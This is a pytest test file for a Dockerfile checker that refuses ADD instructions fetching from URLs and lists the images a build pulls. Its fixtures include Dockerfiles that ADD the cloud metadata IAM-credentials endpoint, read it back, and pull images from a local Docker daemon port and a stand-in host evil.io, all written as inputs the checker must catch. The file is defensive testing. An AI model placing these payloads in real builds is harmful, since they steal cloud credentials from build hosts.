"""check_dockerfile refuses what the engine would do outside the build's sandbox. Pure."""

import pytest

from workers.builds.checks import check_dockerfile

META = "http://169.254.169.254/latest/meta-data/iam/security-credentials/role"


@pytest.mark.parametrize(
    ("dockerfile", "line"),
    [
        (f"FROM x\nADD {META} /x\n", 2),
        (f'FROM x\nADD ["{META}","/x"]\nRUN cat /x; exit 1\n', 2),
        (f'FROM x\nADD [ "{META}", "/x" ]\n', 2),
        (f"FROM x\nADD \\\n  {META} \\\n  /x\n", 2),
        (f"FROM x\nONBUILD ADD {META} /x\n", 2),
        (f"FROM x\nonbuild add {META} /x\n", 2),
        (f"FROM x\nadd {META} /x\n", 2),
        (f"FROM x\nAdd --checksum=sha256:abc {META} /x\n", 2),
        (f"FROM x\nADD --chown=1:1 {META} /x\n", 2),
        (f'FROM x\nADD --chown=1:1 ["{META}", "/x"]\n', 2),
        ("FROM x\nADD --keep-git-dir=true https://github.com/a/b.git /src\n", 2),
        ("FROM x\nADD git@github.com:a/b.git /src\n", 2),
        ("FROM x\nADD ftp://host/file /x\n", 2),
        ("FROM x\nRUN true\nADD local.txt s3://bucket/x /x\n", 3),
    ],
)
def test_attack_add_of_a_url_is_refused_in_every_form(dockerfile, line):
    problem = check_dockerfile(dockerfile)
    assert problem is not None and problem.startswith(f"Line {line}: ADD from a URL is not allowed")
    assert problem.count(". ") == 0 and problem.endswith(".")


@pytest.mark.parametrize(
    "dockerfile",
    [
        "FROM x\nADD app.tgz /app\n",
        'FROM x\nADD --chown=1:1 ["a b", "/x"]\n',
        "FROM x\nCOPY . /app\nRUN echo http://example.com\n",
    ],
)
def test_attack_checks_leave_local_add_and_urls_in_run_alone(dockerfile):
    assert check_dockerfile(dockerfile) is None


def test_attack_every_pulled_image_is_named_with_its_line_and_stages_are_not():
    from workers.builds.checks import named_images

    text = (
        "ARG BASE=alpine:3\nFROM ${BASE} AS b\nFROM 127.0.0.1:2375/x\nCOPY --from=b /a /b\nCOPY --from=0 /a /b\n"
        "COPY --chown=1 --from=169.254.169.254/x /a /b\nFROM scratch\nonbuild copy --from=evil.io/x /a /b\n"
    )
    assert named_images(text) == [(2, "alpine:3"), (3, "127.0.0.1:2375/x"), (6, "169.254.169.254/x"), (8, "evil.io/x")]
